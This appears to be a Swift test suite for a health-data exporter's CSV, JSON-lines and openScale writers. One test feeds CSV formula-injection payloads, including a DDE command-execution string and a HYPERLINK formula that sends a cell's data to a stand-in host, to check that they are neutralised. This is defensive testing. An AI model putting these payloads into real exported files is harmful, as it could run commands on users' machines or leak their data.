import Export
import Foundation
import HealthModel
import Testing

/// The CSV and JSON-lines writers on the mixed store's records.
@Suite(.offCooperativePool) struct ExportWriterTests {
    @Test func jsonLinesReadBackAsTheSameRecords() throws {
        let temp = try mixedStore()
        let records = try temp.records()
        var writer = JSONLinesWriter()
        let text = render(records, with: &writer)
        let lines = text.split(separator: "\n")
        #expect(lines.count == records.count)
        #expect(writer.summary.written == records.count)
        let decoder = HealthRecordDecoder(defaultSource: "")
        let decoded = try lines.map { try decoder.decodeLine($0) }
        #expect(decoded == records)
        #expect(lines[1].hasPrefix("{\"correlation\":\"HKCorrelationTypeIdentifierBloodPressure\""))
    }

    @Test func longCSVHasOneRowPerSampleAndParsesBack() throws {
        let temp = try mixedStore()
        var writer = CSVLongWriter()
        let rows = parseCSV(render(try temp.records(), with: &writer))
        #expect(rows.first == CSVLongWriter.columns)
        let body = Array(rows.dropFirst())
        #expect(body.count == 13, "12 records, the blood pressure as two rows")
        #expect(body.allSatisfy { $0.count == CSVLongWriter.columns.count })
        let byUUID = Dictionary(uniqueKeysWithValues: body.map { ($0[0], $0) })
        let weight = try #require(byUUID[FixtureID.weight.uuidString])
        #expect(weight == [FixtureID.weight.uuidString, "HKQuantityTypeIdentifierBodyMass", "72.35", "kg",
                           "2026-11-29T08:00:00Z", "2026-11-29T08:00:00Z", "xiaomi-scale",
                           "MI SCALE2", "Xiaomi", "XMTZC05HM", "C8:47:8C:00:11:22", "", ""])
        let systolic = try #require(byUUID[FixtureID.systolic.uuidString])
        #expect(systolic[1] == "HKQuantityTypeIdentifierBloodPressureSystolic")
        #expect(systolic[2] == "128")
        #expect(systolic[11] == "HKCorrelationTypeIdentifierBloodPressure")
        #expect(systolic[12] == FixtureID.pressure.uuidString)
        let steps = try #require(byUUID[FixtureID.steps.uuidString])
        #expect(steps[4] == "2026-11-29T06:00:00Z" && steps[5] == "2026-11-29T07:00:00Z" && steps[2] == "4312")
    }

    @Test func longCSVPrintsTimesInTheChosenZoneWithTheirOffset() throws {
        let temp = try mixedStore()
        var writer = CSVLongWriter(timeZone: TimeZone(identifier: "Europe/Berlin"))
        let rows = parseCSV(render(try temp.records(), with: &writer))
        let weight = try #require(rows.first { $0.first == FixtureID.weight.uuidString })
        #expect(weight[4] == "2026-11-29T09:00:00+01:00" && weight[5] == "2026-11-29T09:00:00+01:00")
    }

    @Test func csvFieldsWithCommasQuotesAndNewlinesAreQuoted() throws {
        let device = Device(name: "Scale, \"kitchen\"\nupstairs", manufacturer: "A,B")
        let sample = try quantitySample(FixtureID.weight, .bodyMass, 70, "kg", start: "2026-11-29T08:00:00Z",
                                        source: "xiaomi-scale", device: device)
        var writer = CSVLongWriter()
        let text = render([.sample(sample)], with: &writer)
        #expect(text.contains("\"Scale, \"\"kitchen\"\"\nupstairs\",\"A,B\""))
        let rows = parseCSV(text)
        #expect(rows.count == 2)
        #expect(rows[1][7] == "Scale, \"kitchen\"\nupstairs")
        #expect(rows[1][8] == "A,B")
    }

    /// Issue 23 finding 18: text cells a spreadsheet would run as formulas (OWASP's list: `=`, `+`,
    /// `-`, `@`, tab, CR first) are prefixed with a single quote and quoted; numbers stay numbers.
    @Test func csvTextCellsThatLookLikeFormulasAreNeutralised() throws {
        let device = Device(name: "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", manufacturer: "@SUM(A1)",
                            model: "+1-555", localIdentifier: "-2+3")
        let sample = try quantitySample(FixtureID.weight, .bodyMass, -3.5, "kg", start: "2026-11-29T08:00:00Z",
                                        source: "=cmd|' /C calc'!A0", device: device)
        let tabbed = try quantitySample(FixtureID.steps, .stepCount, 12, "count", start: "2026-11-29T08:00:00Z",
                                        source: "\tpod", device: Device(name: "\r=1+1"))
        var writer = CSVLongWriter()
        let text = render([.sample(sample), .sample(tabbed)], with: &writer)
        #expect(text.contains(#",-3.5,kg,"#), "a number is written as it is: \(text)")
        #expect(text.contains(#","'=cmd|' /C calc'!A0","'=HYPERLINK(""http://x.example/?""&A1,""open"")","'@SUM(A1)","'+1-555","'-2+3","#),
                "\(text)")
        #expect(text.contains("\"'\tpod\",\"'\r=1+1\""), "\(text)")
        let rows = parseCSV(text)
        #expect(rows.count == 3)
        #expect(rows[1][6] == "'=cmd|' /C calc'!A0")
        #expect(rows[1][8] == "'@SUM(A1)")
        #expect(rows[2][6] == "'\tpod")
        // openScale's comment column carries the source behind "ingestd ", so it never starts a formula.
        var openScale = OpenScaleCSVWriter(timeZone: try #require(TimeZone(identifier: "UTC")))
        let weight = try quantitySample(FixtureID.weight, .bodyMass, 70, "kg", start: "2026-11-29T08:00:00Z", source: "=1+1")
        #expect(render([.sample(weight)], with: &openScale).contains("29.11.2026 08:00,70,,,,,,,,ingestd =1+1"))
    }

    @Test func openScaleRowsGroupOneWeighingPerSourceAndInstant() throws {
        let temp = try mixedStore()
        var writer = OpenScaleCSVWriter(timeZone: try #require(TimeZone(identifier: "Europe/Berlin")))
        let rows = parseCSV(render(try temp.records(), with: &writer))
        #expect(rows == [
            ["dateTime", "weight", "fat", "water", "muscle", "lbm", "bone", "visceralFat", "waist", "comment"],
            ["29.11.2026 09:00", "72.35", "21.5", "", "", "", "", "", "", "ingestd xiaomi-scale"],
            ["29.11.2026 09:05", "72.57", "", "", "", "", "", "", "", "ingestd gatt-weight-scale"],
        ])
        #expect(writer.summary.written == 2)
        // Everything that is not a body measurement openScale has a column for is counted, not lost silently.
        let skipped = try #require(writer.summary.skipped[.noOpenScaleColumn])
        #expect(skipped["HKQuantityTypeIdentifierBodyMassIndex"] == 1)
        #expect(skipped["HKQuantityTypeIdentifierStepCount"] == 1)
        #expect(skipped["HKQuantityTypeIdentifierBloodPressureSystolic"] == 1)
    }

    @Test func openScaleSkipsAReadingWithoutWeight() throws {
        let fat = try quantitySample(FixtureID.fat, .bodyFatPercentage, 0.2, "%", start: "2026-11-29T08:00:00Z", source: "s")
        let waist = try quantitySample(FixtureID.uuid(40), .waistCircumference, 0.81, "m", start: "2026-11-29T08:10:00Z", source: "s")
        let weight = try quantitySample(FixtureID.uuid(41), .bodyMass, 80, "kg", start: "2026-11-29T08:10:00Z", source: "s")
        var writer = OpenScaleCSVWriter(timeZone: try #require(TimeZone(identifier: "UTC")))
        let rows = parseCSV(render([.sample(fat), .sample(waist), .sample(weight)], with: &writer))
        #expect(rows.dropFirst().map { $0 } == [["29.11.2026 08:10", "80", "", "", "", "", "", "", "81", "ingestd s"]])
        #expect(writer.summary.skipped[.noWeightInReading] == ["HKQuantityTypeIdentifierBodyFatPercentage": 1])
    }
}
